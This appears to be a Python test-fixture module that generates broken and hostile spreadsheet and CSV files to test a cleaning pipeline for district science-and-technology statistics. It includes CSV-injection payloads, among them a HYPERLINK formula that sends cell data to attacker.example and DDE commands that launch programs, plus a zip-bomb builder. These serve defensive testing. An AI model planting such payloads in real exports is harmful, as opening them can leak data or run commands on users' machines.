"""The bad-input corpus: every way an export can be broken or hostile, with its expected outcome.

Each :class:`Case` is one file laid out like ``data/raw/<kind>/<file>``, generated in memory
(deterministic: fixed zip times, no randomness beyond a fixed seed) and written with
:meth:`Case.write`. The expected outcome is declared as data:

* ``"error"``: the file cannot be used; the run reports it (message contains ``message``) and
  goes on with the other files. ``io_error`` says the reader itself already refuses the file.
* ``"quarantine"``: the file is read; ``rules`` counts the rows that must land in quarantine
  by rule, the other ``rows_read - sum(rules)`` rows are clean.
* ``"clean"``: the mess must be absorbed; all ``rows_read`` rows are clean, and
  ``clean_values`` pins the parsed values of some columns (in source-row order).

``rows_read`` counts the non-blank rows below the header (data rows, footnotes, totals). Every
case uses its own enterprises, credit codes, candidates and (for the time series) its own
years, so the whole corpus can run as one ``run_clean`` without cases colliding on keys.

``known_bug`` marks an expectation the current pipeline does not meet; the tests turn it into
a strict xfail naming the owner's bug.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import re
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import msoffcrypto.format.ooxml
import numpy as np
import openpyxl
import pandas as pd
from stdnum.cn import uscc as stdnum_uscc

KINDS = (
    "hitech_certificates",
    "tech_sme_registrations",
    "tech_contracts",
    "hitech_value_added",
    "rd_expenditure",
    "district_gdp",
    "pipelines",
)
# Characters that make a spreadsheet run a cell as a formula (OWASP "CSV injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/x?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",  # not "=1+1" again: one name under two credit codes is name_several_uscc
)

_ZIP_TIME = (2024, 10, 8, 9, 0, 0)
_TODAY_YEAR = 2024


@dataclass(frozen=True)
class Case:
    """One bad (or merely messy) input file and what must happen to it."""

    name: str
    kind: str
    filename: str
    content: bytes
    outcome: str  # "error" | "quarantine" | "clean"
    description: str
    rows_read: int = 0
    rules: Mapping[str, int] = field(default_factory=dict)
    message: str = ""  # error: a fragment the message must contain
    io_error: bool = False  # error: io.read_sheets already refuses the file
    clean_values: Mapping[str, Sequence[object]] = field(default_factory=dict)
    known_bug: str | None = None
    slow: bool = False

    def __post_init__(self) -> None:
        assert self.outcome in ("error", "quarantine", "clean"), self.outcome
        assert self.kind in KINDS, self.kind
        if self.outcome == "error":
            assert self.message and not self.rules
        if self.outcome == "quarantine":
            assert self.rules and sum(self.rules.values()) <= self.rows_read
        if self.outcome == "clean":
            assert not self.rules

    @property
    def relpath(self) -> str:
        return f"{self.kind}/{self.filename}"

    @property
    def rows_quarantined(self) -> int:
        return sum(self.rules.values())

    @property
    def rows_clean(self) -> int:
        return 0 if self.outcome == "error" else self.rows_read - self.rows_quarantined

    def write(self, raw_dir: str | Path) -> Path:
        target = Path(raw_dir) / self.kind / self.filename
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(self.content)
        return target


# ----------------------------------------------------------------------------- file builders


class TextCell(str):
    """A string cell written as text even when it starts with "=" (openpyxl would make it a
    formula); this is how a name typed with a leading "=" arrives in a real export."""


def xlsx_bytes(
    sheets: Mapping[str, Sequence[Sequence[object]]],
    merges: Mapping[str, Sequence[str]] | None = None,
    cached: Mapping[tuple[str, str], object] | None = None,
    number_formats: Mapping[str, Mapping[str, str]] | None = None,
) -> bytes:
    """An xlsx with fixed zip entry times (same content -> same bytes).

    ``cached`` gives formula cells a cached value, as Excel and WPS save them (openpyxl
    writes formulas without one): ``{(sheet_index_1_based, "B5"): 123}``.
    ``number_formats``: ``{sheet: {column letter: format}}`` for the numeric cells of a
    column (``{"2024年": {"C": "0.0%"}}``).
    """
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(list(r))
            for cell, value in zip(ws[ws.max_row], r, strict=False):
                if isinstance(value, TextCell):
                    cell.data_type = "s"  # text that merely looks like a formula
        for rng in (merges or {}).get(title, ()):
            ws.merge_cells(rng)
        for letter, code in (number_formats or {}).get(title, {}).items():
            for cell in ws[letter]:
                if isinstance(cell.value, int | float):
                    cell.number_format = code
    wb.properties.created = dt.datetime(2024, 10, 8, 9, 0, 0)
    wb.properties.modified = dt.datetime(2024, 10, 8, 9, 0, 0)
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                    rb"\g<1>2024-10-08T09:00:00Z\g<2>",
                    content,
                )
            for (sheet_no, ref), value in (cached or {}).items():
                if info.filename == f"xl/worksheets/sheet{sheet_no}.xml":
                    content = re.sub(
                        rb'(<c r="'
                        + ref.encode()
                        + rb'"[^>]*>\s*<f>[^<]*</f>)\s*(?:<v\s*/>|<v>\s*</v>)?',
                        rb"\g<1><v>" + str(value).encode() + rb"</v>",
                        content,
                    )
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=_ZIP_TIME), content)
    return out.getvalue()


# One more cell at the last row and column a sheet can have.
FAR_CELL_ROW = (
    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
)


def patch_xlsx(plain: bytes, parts: Mapping[str, object]) -> bytes:
    """``plain`` with the named zip members rewritten by ``parts[name](bytes) -> bytes``."""
    src = zipfile.ZipFile(io.BytesIO(plain))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename in parts:
                content = parts[info.filename](content)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=_ZIP_TIME), content)
    return out.getvalue()


def zip_bomb_xlsx(inflated_bytes: int) -> bytes:
    """A valid workbook whose sheet XML inflates to about ``inflated_bytes`` of one-cell rows
    (a few MB on disk per GB inflated; streamed, so building it needs no such memory)."""
    plain = cert_file(cert_rows(Ids(), 3))
    src = zipfile.ZipFile(io.BytesIO(plain))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            zi = zipfile.ZipInfo(info.filename, _ZIP_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(zi, content)
                continue
            head, tail = content.split(b"</sheetData>")
            block = b'<row r="9"><c r="A9"><v>1</v></c></row>' * 100_000
            with dst.open(zi, "w", force_zip64=True) as f:
                f.write(head)
                for _ in range(max(inflated_bytes // len(block), 1)):
                    f.write(block)
                f.write(b"</sheetData>" + tail)
    return out.getvalue()


def csv_bytes(
    rows: Sequence[Sequence[object]],
    encoding: str = "gb18030",
    *,
    delimiter: str = ",",
    bom: bool = False,
) -> bytes:
    """CSV as the registration system exports it (GBK family, CRLF), quoting as needed."""
    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    for r in rows:
        w.writerow(["" if v is None else v for v in r])
    data = buf.getvalue().encode(encoding)
    if bom and encoding.replace("-", "").lower() == "utf8":
        data = b"\xef\xbb\xbf" + data
    return data


def encrypt_xlsx(plain: bytes, password: str) -> bytes:
    office = msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(plain))
    out = io.BytesIO()
    office.encrypt(password, out)
    return out.getvalue()


# ----------------------------------------------------------------------------- unique identities

_WORDS = (
    "星澜", "芯垣", "麓鸣", "禾岫", "霁川", "曜湾", "栖梧", "沐橙", "青穹", "岚羽",
    "砚溪", "弈光", "朔云", "汀兰", "峻禾", "云图", "澜舟", "烁岚", "墨岫", "橙芯",
)  # fmt: skip
_TRADES = ("信息技术", "生物科技", "新材料", "智能装备", "环保科技", "数据科技")
_ORG_WEIGHTS = np.array([3, 7, 9, 10, 5, 8, 4, 2])
USCC_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"
_USCC_WEIGHTS = np.array([pow(3, i, 31) for i in range(17)])


def uscc_codes(serials: np.ndarray, admin: str = "430103", prefix: str = "91") -> np.ndarray:
    """Valid credit codes for integer ``serials`` (vectorised GB 11714 + GB 32100 check digits).

    Written here rather than taken from the package so the tests do not trust the code they
    test; ``stdnum`` cross-checks it in :func:`_self_check`.
    """
    serials = np.asarray(serials, dtype=np.int64)
    body = (serials[:, None] // (10 ** np.arange(7, -1, -1))) % 10  # 8 digits of the org code
    c = 11 - (body * _ORG_WEIGHTS).sum(axis=1) % 11
    org_check = np.where(c == 11, 0, c)  # 10 stays 10: the character "X"
    head_digits = np.array([USCC_ALPHABET.index(ch) for ch in prefix + admin])
    values = np.concatenate(
        [
            np.broadcast_to(head_digits, (len(serials), 8)),
            body,
            np.where(org_check == 10, USCC_ALPHABET.index("X"), org_check)[:, None],
        ],
        axis=1,
    )
    check = (31 - (values * _USCC_WEIGHTS).sum(axis=1) % 31) % 31
    codes = np.concatenate([values, check[:, None]], axis=1)
    chars = np.array(list(USCC_ALPHABET))[codes]
    chars = np.where(
        (np.arange(18) == 16)[None, :] & (org_check == 10)[:, None], "X", chars
    )  # org check "X"
    return np.ascontiguousarray(chars).view("<U18").ravel()


def _self_check() -> None:
    for code in uscc_codes(np.array([0, 1, 12345678, 99999999, 31415926, 27182818])):
        assert stdnum_uscc.is_valid(code), code


_self_check()


def wrong_check_digit(code: str) -> str:
    return code[:-1] + USCC_ALPHABET[(USCC_ALPHABET.index(code[-1]) + 7) % 31]


class Ids:
    """Hands out enterprise names, credit codes, candidates and years no other case uses."""

    def __init__(self) -> None:
        self._serial = itertools.count(10_000_001)
        self._years: dict[str, itertools.count] = {}

    def enterprise(self) -> tuple[str, str]:
        n = next(self._serial)
        a, b = divmod(n - 10_000_001, len(_WORDS))
        w1 = _WORDS[a % len(_WORDS)]
        w2 = _WORDS[b]
        trade = _TRADES[(a // len(_WORDS)) % len(_TRADES)]
        return f"长沙{w1}{w2}{trade}有限公司", str(uscc_codes(np.array([n]))[0])

    def enterprises(self, k: int) -> list[tuple[str, str]]:
        return [self.enterprise() for _ in range(k)]

    def year(self, kind: str) -> int:
        y = next(self._years.setdefault(kind, itertools.count(2001)))
        assert y <= 2017, "out of distinct years for time-series cases"
        return y


# ----------------------------------------------------------------------------- kind baselines

CERT_HEADER = [
    "序号",
    "企业名称",
    "统一社会信用代码",
    "证书编号",
    "发证日期",
    "技术领域",
    "所属园区",
    "状态",
]
SME_HEADER = ["序号", "入库登记编号", "企业名称", "统一社会信用代码", "入库日期", "批次", "年度"]
RD_HEADER = [
    "序号",
    "单位名称",
    "统一社会信用代码",
    "单位类型",
    "统计年度",
    "研发经费内部支出（万元）",
]
PIPE_HEADER = ["序号", "平台名称", "类别", "推进阶段", "预计认定时间", "认定时间", "计划年度"]
PERSONAL_HEADER = ["联系人", "联系电话", "身份证号", "电子邮箱"]


def personal_values(i: int) -> list[str]:
    """Fake personal data in the shape real exports carry (masked, never a real person)."""
    return [f"王*{i % 10}", f"139-0000-{i:04d}", f"43010319900101{i % 10}X{i % 7}X"[:18],
            f"contact{i}@example.com"]  # fmt: skip


def cert_rows(ids: Ids, n: int, year: int = 2023, start: int = 1) -> list[list[object]]:
    rows = []
    for i, (name, code) in enumerate(ids.enterprises(n)):
        rows.append([start + i, name, code, f"GR{year}43{int(code[9:16]) % 10**6:06d}",
                     dt.datetime(year, 11, 20), "电子信息", "天心数谷", "有效"])  # fmt: skip
    return rows


def cert_file(
    rows: Sequence[Sequence[object]],
    header: Sequence[object] = tuple(CERT_HEADER),
    year: int = 2023,
    title: bool = True,
) -> bytes:
    top = [[f"天心区{year}年度高新技术企业认定名单"]] if title else []
    return xlsx_bytes({f"{year}年": [*top, list(header), *rows]})


def sme_rows(ids: Ids, n: int, year: int = 2023) -> list[list[object]]:
    return [
        [i + 1, f"{year}4301030{i + 1:04d}", name, code, f"{year}-04-{i % 27 + 1:02d}", 4, year]
        for i, (name, code) in enumerate(ids.enterprises(n))
    ]


def sme_file(rows, header=tuple(SME_HEADER), encoding="gb18030", **kw) -> bytes:
    return csv_bytes([list(header), *rows], encoding, **kw)


def contract_rows(year: int, months: Sequence[int] = tuple(range(1, 13)), cum: bool = True):
    """Monthly rows with consistent cumulative columns; values ~ 8,000-20,000 万元."""
    rows, cn, cv = [], 0, 0.0
    for m in months:
        n, v = 20 + m, round(8000.0 + 1000.0 * m + 0.5, 1)
        cn, cv = cn + n, round(cv + v, 1)
        rows.append([f"{m}月", n, v, cn, cv] if cum else [f"{m}月", n, v])
    return rows


def contract_file(year: int, rows, *, cum: bool = True, unit: str = "万元", value_header=None):
    head1 = ["月份", "本月", None, "累计", None] if cum else ["月份", "本月", None]
    vh = value_header or f"成交额（{unit}）"
    head2 = [None, "合同数（项）", vh, "合同数（项）", f"成交额（{unit}）"][: len(head1)]
    merges = ["B3:C3", "D3:E3", "A3:A4"] if cum else ["B3:C3", "A3:A4"]
    return xlsx_bytes(
        {
            f"{year}年": [
                [f"天心区技术合同登记情况月报（{year}年）"],
                [f"单位：项、{unit}"],
                head1,
                head2,
                *rows,
            ]
        },  # fmt: skip
        merges={f"{year}年": ["A1:E1", *merges]},
    )


def va_rows(year: int, months: Sequence[int] = tuple(range(2, 13))):
    return [[f"{year}年1-{m}月", round(40.0 * m, 2), 10.5] for m in months]


def va_file(
    year: int, rows, header=("时期", "累计增加值（亿元）", "累计增长（%）"), formats=None
) -> bytes:
    sheet = f"{year}年"
    body = [[f"{year}年天心区高新技术产业增加值"], list(header), *rows]
    return xlsx_bytes({sheet: body}, number_formats={sheet: formats} if formats else None)


def rd_rows(ids: Ids, n: int, year: int = 2022):
    return [
        [i + 1, name, code, "企业", year, round(350.5 + 10 * i, 1)]
        for i, (name, code) in enumerate(ids.enterprises(n))
    ]


def rd_file(rows, year: int = 2022, header=tuple(RD_HEADER)) -> bytes:
    return xlsx_bytes(
        {str(year): [[f"{year}年天心区研究与试验发展(R&D)经费支出情况"], list(header), *rows]}
    )


def gdp_rows(years: Sequence[int]):
    return [[f"{y}年", round(1000.0 + 10 * (y - 2000), 2), 6.5] for y in years]


def gdp_file(rows, header=("年份", "地区生产总值（亿元）", "增速（%）")) -> bytes:
    return xlsx_bytes({"地区生产总值": [["天心区地区生产总值"], list(header), *rows]})


def pipe_rows(tag: str, n: int, stage: str = "已认定"):
    rows = []
    for i in range(n):
        recognized = dt.datetime(2024, 5, i + 1) if stage == "已认定" else None
        rows.append([i + 1, f"长沙{tag}{i + 1}号工程技术研究中心", "市级工程技术研究中心", stage,
                     dt.datetime(2024, 6, i + 1), recognized, 2024])  # fmt: skip
    return rows


def pipe_file(rows, sheet: str = "科创平台", header=tuple(PIPE_HEADER)) -> bytes:
    return xlsx_bytes({sheet: [[f"天心区2024年{sheet}项目储备台账"], list(header), *rows]})


def _good_xlsx() -> bytes:
    return cert_file(cert_rows(Ids(), 200), year=2023)


# ----------------------------------------------------------------------------- the corpus


def build_cases() -> list[Case]:
    """Every case of the corpus (at least 60), each with unique keys."""
    ids = Ids()
    cases: list[Case] = []

    def add(**kw) -> None:
        cases.append(Case(**kw))

    # --- containers the reader must refuse, with a message naming the file ------------------
    add(
        name="empty_xlsx",
        kind="hitech_certificates",
        filename="空文件.xlsx",
        content=b"",
        outcome="error",
        message="文件为空",
        io_error=True,
        description="0-byte .xlsx",
    )
    add(
        name="empty_csv",
        kind="tech_sme_registrations",
        filename="空文件.csv",
        content=b"",
        outcome="error",
        message="文件为空",
        io_error=True,
        description="0-byte .csv",
    )
    add(
        name="text_renamed_xlsx",
        kind="tech_contracts",
        filename="月报_会话过期.xlsx",
        content="登录已过期，请重新登录 session expired; code=401".encode(),
        outcome="error",
        message="纯文本",
        io_error=True,
        description="an error page saved under an .xlsx name",
    )
    add(
        name="png_renamed_xlsx",
        kind="hitech_value_added",
        filename="截图.xlsx",
        content=b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        outcome="error",
        message="PNG image",
        io_error=True,
        description="a screenshot renamed .xlsx",
    )
    add(
        name="jpeg_renamed_xlsx",
        kind="rd_expenditure",
        filename="扫描件.xlsx",
        content=b"\xff\xd8\xff\xe0" + bytes(512),
        outcome="error",
        message="JPEG image",
        io_error=True,
        description="a scanned JPEG renamed .xlsx",
    )
    add(
        name="pdf_renamed_xlsx",
        kind="district_gdp",
        filename="公报.xlsx",
        content=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        outcome="error",
        message="PDF document",
        io_error=True,
        description="a PDF bulletin renamed .xlsx",
    )
    good = _good_xlsx()
    add(
        name="truncated_xlsx_half",
        kind="hitech_certificates",
        filename="下载中断.xlsx",
        content=good[: len(good) // 2],
        outcome="error",
        message="损坏或不完整",
        io_error=True,
        description="download interrupted: half of an xlsx (broken zip)",
    )
    add(
        name="truncated_xlsx_tail",
        kind="pipelines",
        filename="台账_截断.xlsx",
        content=good[:-200],
        outcome="error",
        message="损坏",
        io_error=True,
        description="xlsx missing its last 200 bytes (zip central directory cut)",
    )
    add(
        name="password_xlsx",
        kind="hitech_certificates",
        filename="加密名单.xlsx",
        content=encrypt_xlsx(cert_file(cert_rows(Ids(), 3)), "tianxin@2024"),
        outcome="error",
        message="密码",
        io_error=True,
        description="xlsx protected with a password nobody gave us",
    )
    add(
        name="password_xlsx_rd",
        kind="rd_expenditure",
        filename="研发_加密.xlsx",
        content=encrypt_xlsx(rd_file(rd_rows(Ids(), 3)), "123456"),
        outcome="error",
        message="password",
        io_error=True,
        description="R&D workbook with an unknown password",
    )
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("word/document.xml", _ZIP_TIME), "<w:document/>")
    add(
        name="docx_renamed_xlsx",
        kind="tech_contracts",
        filename="说明.xlsx",
        content=zbuf.getvalue(),
        outcome="error",
        message="不是 Excel",
        io_error=True,
        description="a Word document (zip without xl/workbook.xml) renamed .xlsx",
    )
    add(
        name="binary_junk_xls",
        kind="district_gdp",
        filename="乱码.xls",
        content=bytes([0, 1, 2, 3, 0xFF, 0xFE, 0x00, 0x10]) * 64,
        outcome="error",
        message="二进制",
        io_error=True,
        description="binary garbage with an .xls name",
    )
    add(
        name="html_without_table",
        kind="hitech_value_added",
        filename="增加值.xls",
        content="<html><body><p>系统维护中</p></body></html>".encode(),
        outcome="error",
        message="没有表格",
        io_error=True,
        description="web-system HTML page with no table",
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    add(
        name="broken_ole_xls",
        kind="rd_expenditure",
        filename="旧版.xls",
        content=ole,
        outcome="error",
        message="OLE",
        io_error=True,
        description="an OLE header followed by nothing: a damaged .xls",
    )

    # --- shape: headers and columns -----------------------------------------------------------
    add(
        name="header_only_xlsx",
        kind="hitech_certificates",
        filename="仅表头.xlsx",
        content=cert_file([], year=2023),
        outcome="clean",
        rows_read=0,
        description="header row and no data: read, 0 rows, reported in the reconciliation",
    )
    add(
        name="header_only_csv",
        kind="tech_sme_registrations",
        filename="仅表头.csv",
        content=sme_file([]),
        outcome="clean",
        rows_read=0,
        description="CSV holding only the header line",
    )
    add(
        name="blank_lines_only_csv",
        kind="tech_sme_registrations",
        filename="空行.csv",
        content=b"\r\n\r\n  \r\n",
        outcome="error",
        message="文件为空",
        io_error=True,
        description="CSV of blank lines only: as empty as a 0-byte file",
    )
    add(
        name="title_only_xlsx",
        kind="tech_contracts",
        filename="只有标题.xlsx",
        content=xlsx_bytes(
            {"2024年": [["天心区技术合同登记情况月报（2024年）"], ["单位：项、万元"]]}
        ),
        outcome="error",
        message="表头",
        description="a workbook with a title and no table",
    )
    add(
        name="no_header_rows_only",
        kind="rd_expenditure",
        filename="无表头.xlsx",
        content=rd_file(rd_rows(ids, 3), header=[1, "某单位", "x", "企业", 2022, 5]),
        outcome="error",
        message="表头",
        description="data rows with no header row at all",
    )
    add(
        name="missing_uscc_column",
        kind="hitech_certificates",
        filename="缺信用代码列.xlsx",
        content=cert_file(
            [r[:2] + r[3:] for r in cert_rows(ids, 4)],
            header=[h for h in CERT_HEADER if h != "统一社会信用代码"],
        ),
        outcome="error",
        message="统一社会信用代码",
        description="required column 统一社会信用代码 missing: error names the accepted headers",
    )
    y = ids.year("tech_contracts")
    add(
        name="missing_value_column",
        kind="tech_contracts",
        filename=f"缺成交额_{y}.xlsx",
        content=xlsx_bytes(
            {
                f"{y}年": [
                    [f"天心区技术合同月报（{y}年）"],
                    ["月份", "合同数（项）"],
                    *[[f"{m}月", 10 + m] for m in range(1, 13)],
                ]
            }
        ),
        outcome="error",
        message="成交额",
        description="成交额 column missing from a monthly report",
    )
    add(
        name="unknown_renamed_column",
        kind="rd_expenditure",
        filename="列名改了.xlsx",
        content=rd_file(rd_rows(ids, 3), header=RD_HEADER[:5] + ["研发费用合计数（万元）"]),
        outcome="error",
        message="研发费用合计数",
        description="the amount column renamed to an unknown header: reported, not guessed",
    )
    y = ids.year("tech_contracts")
    add(
        name="synonym_合同金额",
        kind="tech_contracts",
        filename=f"合同金额_{y}.xlsx",
        content=contract_file(
            y, contract_rows(y, cum=False), cum=False, value_header="合同金额（万元）"
        ),
        outcome="clean",
        rows_read=12,
        clean_values={"value_wan": [round(8000.0 + 1000.0 * m + 0.5, 1) for m in range(1, 13)]},
        description="合同金额 is a synonym of 成交额 and must map",
    )
    rows = cert_rows(ids, 4)
    add(
        name="synonym_headers_cert",
        kind="hitech_certificates",
        filename="同义表头.xlsx",
        content=cert_file(
            rows,
            header=[
                "序号",
                "企业全称",
                "社会信用代码",
                "证书号",
                "认定日期",
                "所属技术领域",
                "园区",
                "证书状态",
            ],
        ),
        outcome="clean",
        rows_read=4,
        clean_values={"uscc": [r[2] for r in rows]},
        description="every header spelled another accepted way",
    )
    rows = cert_rows(ids, 4)
    add(
        name="extra_columns",
        kind="hitech_certificates",
        filename="多余列.xlsx",
        content=cert_file(
            [r + ["500万元", "无", "=1+1"] for r in rows],
            header=CERT_HEADER + ["注册资本", "备注", "校验"],
        ),
        outcome="clean",
        rows_read=4,
        description="extra unknown columns are ignored, rows kept",
    )
    rows = [[*r, *personal_values(i)] for i, r in enumerate(cert_rows(ids, 5))]
    add(
        name="personal_columns",
        kind="hitech_certificates",
        filename="含个人信息.xlsx",
        content=cert_file(rows, header=CERT_HEADER + PERSONAL_HEADER),
        outcome="clean",
        rows_read=5,
        description="联系人/电话/身份证号/邮箱 columns: dropped, rows kept",
    )
    rows = sme_rows(ids, 4)
    add(
        name="reordered_columns_csv",
        kind="tech_sme_registrations",
        filename="列顺序不同.csv",
        content=sme_file([r[::-1] for r in rows], header=SME_HEADER[::-1]),
        outcome="clean",
        rows_read=4,
        clean_values={"uscc": [r[3] for r in rows]},
        description="columns in reverse order",
    )
    rows = cert_rows(ids, 3)
    add(
        name="duplicate_header_names",
        kind="hitech_certificates",
        filename="重复列名.xlsx",
        content=cert_file([r + ["另一个"] for r in rows], header=CERT_HEADER + ["企业名称"]),
        outcome="clean",
        rows_read=3,
        clean_values={"enterprise_name": [r[1] for r in rows]},
        description="a second 企业名称 column: the first is used, nothing crashes",
    )
    add(
        name="pipeline_unknown_sheet",
        kind="pipelines",
        filename="台账_Sheet1.xlsx",
        content=pipe_file(pipe_rows("弈光", 3), sheet="Sheet1"),
        outcome="error",
        message="台账类型",
        description="a pipeline sheet whose name says nothing about its pipeline",
    )

    # --- encodings and CSV dialects ------------------------------------------------------------
    rows = sme_rows(ids, 4)
    add(
        name="utf8_among_gbk",
        kind="tech_sme_registrations",
        filename="UTF8导出.csv",
        content=sme_file(rows, encoding="utf-8"),
        outcome="clean",
        rows_read=4,
        clean_values={"enterprise_name": [r[2] for r in rows]},
        description="UTF-8 CSV beside the GBK exports",
    )
    rows = sme_rows(ids, 4)
    add(
        name="utf8_bom",
        kind="tech_sme_registrations",
        filename="UTF8_BOM.csv",
        content=sme_file(rows, encoding="utf-8", bom=True),
        outcome="clean",
        rows_read=4,
        clean_values={"enterprise_name": [r[2] for r in rows]},
        description="UTF-8 with BOM",
    )
    rows = sme_rows(ids, 4)
    add(
        name="utf16_csv",
        kind="tech_sme_registrations",
        filename="UTF16.csv",
        content=sme_file(rows, encoding="utf-16"),
        outcome="clean",
        rows_read=4,
        clean_values={"enterprise_name": [r[2] for r in rows]},
        description="UTF-16 (what Excel's 'Unicode text' saves)",
    )
    rows = sme_rows(ids, 4)
    rows[1][2] = "湖南䶮创新材料有限公司"  # 䶮 is outside GBK, inside GB18030
    add(
        name="gb18030_rare_char",
        kind="tech_sme_registrations",
        filename="生僻字.csv",
        content=sme_file(rows, encoding="gb18030"),
        outcome="clean",
        rows_read=4,
        clean_values={"enterprise_name": [r[2] for r in rows]},
        description="a GB18030-only character in a name",
    )
    rows = sme_rows(ids, 4)
    add(
        name="tab_delimited",
        kind="tech_sme_registrations",
        filename="制表符.csv",
        content=sme_file(rows, delimiter="\t"),
        outcome="clean",
        rows_read=4,
        description="tab-separated text under a .csv name",
    )
    rows = sme_rows(ids, 4)
    add(
        name="semicolon_delimited",
        kind="tech_sme_registrations",
        filename="分号.csv",
        content=sme_file(rows, delimiter=";", encoding="utf-8"),
        outcome="clean",
        rows_read=4,
        description="semicolon-separated export",
    )
    rows = sme_rows(ids, 4)
    rows[2][2] = "长沙\n换行科技有限公司"
    add(
        name="quoted_newline",
        kind="tech_sme_registrations",
        filename="单元格换行.csv",
        content=sme_file(rows),
        outcome="clean",
        rows_read=4,
        clean_values={"uscc": [r[3] for r in rows]},
        description="a quoted cell with a line break inside",
    )
    rows = sme_rows(ids, 4)
    add(
        name="ragged_rows",
        kind="tech_sme_registrations",
        filename="行长不齐.csv",
        content=sme_file([rows[0] + ["多余"], rows[1], rows[2][:4], rows[3]]),
        outcome="quarantine",
        rows_read=4,
        rules={"missing_required": 1},
        known_bug=None,
        description="one row with an extra cell, one cut short (year and date lost)",
    )
    rows = cert_rows(ids, 3)
    html = (
        "<html><head><meta charset='gb2312'></head><body><table>"
        + "".join(
            "<tr>" + "".join(f"<td>{'' if v is None else v}</td>" for v in r) + "</tr>"
            for r in [CERT_HEADER, *[[*r[:4], "2023-11-20", *r[5:]] for r in rows]]
        )
        + "</table></body></html>"
    )
    add(
        name="html_saved_as_xls",
        kind="hitech_certificates",
        filename="网页导出.xls",
        content=html.encode("gb2312"),
        outcome="clean",
        rows_read=3,
        clean_values={"uscc": [r[2] for r in rows]},
        description="an HTML table saved as .xls by the web system",
    )

    # --- numbers, amounts, ranges -------------------------------------------------------------
    y = ids.year("tech_contracts")
    rows = contract_rows(y)
    rows[4][1] = "二十五"
    add(
        name="text_in_number_cell",
        kind="tech_contracts",
        filename=f"文字数字_{y}.xlsx",
        content=contract_file(y, rows),
        outcome="quarantine",
        rows_read=12,
        rules={"invalid_number": 1},
        description="合同数 written in words",
    )
    rows = rd_rows(ids, 4)
    rows[2][5] = "约1200"
    add(
        name="approximate_amount",
        kind="rd_expenditure",
        filename="约数.xlsx",
        content=rd_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"invalid_number": 1},
        description="an amount written as 约1200",
    )
    rows = rd_rows(ids, 4)
    rows[1][5] = -350.5
    rows[3][5] = "-1,200.0"
    add(
        name="negative_amounts",
        kind="rd_expenditure",
        filename="负数.xlsx",
        content=rd_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"negative_amount": 2},
        description="negative R&D expenditure, as a number and as text",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False)
    rows[6][2] = 1.52  # typed in 亿元 in the 万元 column: 15,200 万元
    add(
        name="yi_in_wan_column",
        kind="tech_contracts",
        filename=f"亿元误填_{y}.xlsx",
        content=contract_file(y, rows, cum=False),
        outcome="quarantine",
        rows_read=12,
        rules={"out_of_range": 1},
        description="an amount in 亿元 inside a 万元 column, caught by a range check",
    )
    ys = [ids.year("district_gdp") for _ in range(3)]
    rows = gdp_rows(ys)
    rows[1][1] = 14_124_000  # 万元 typed into the 亿元 column
    add(
        name="wan_in_yi_gdp",
        kind="district_gdp",
        filename=f"GDP_万元误填_{ys[0]}.xlsx",
        content=gdp_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"out_of_range": 1},
        description="GDP in 万元 inside the 亿元 column",
    )
    y = ids.year("hitech_value_added")
    rows = va_rows(y)
    rows[3][1] = 300.0  # 1-5月 (200) typed as 300: 1-6月 (240) falls below it
    rows[6][1] = 200.0  # 1-8月 (320) typed as 200: below 1-7月
    add(
        name="cumulative_falls",
        kind="hitech_value_added",
        filename=f"累计下降_{y}.xlsx",
        content=va_file(y, rows),
        outcome="quarantine",
        rows_read=11,
        rules={"cumulative_falls": 2},
        description="a cumulative series that falls within the year (343 -> 300 -> 447 亿元 "
        "accepted before): the two mistyped months are quarantined, the months after them kept",
        clean_values={"va_cum_yi": [80.0, 120.0, 160.0, 240.0, 280.0, 360.0, 400.0, 440.0, 480.0]},
    )
    y = ids.year("hitech_value_added")
    rows = [[period, value, growth / 100] for period, value, growth in va_rows(y)]
    add(
        name="percent_formatted_growth",
        kind="hitech_value_added",
        filename=f"百分比格式_{y}.xlsx",
        content=va_file(y, rows, formats={"C": "0.0%"}),
        outcome="clean",
        rows_read=11,
        clean_values={"growth_cum_pct": [10.5] * 11},
        description="累计增长 stored as Excel percent cells (0.105 shown as 10.5%): read as "
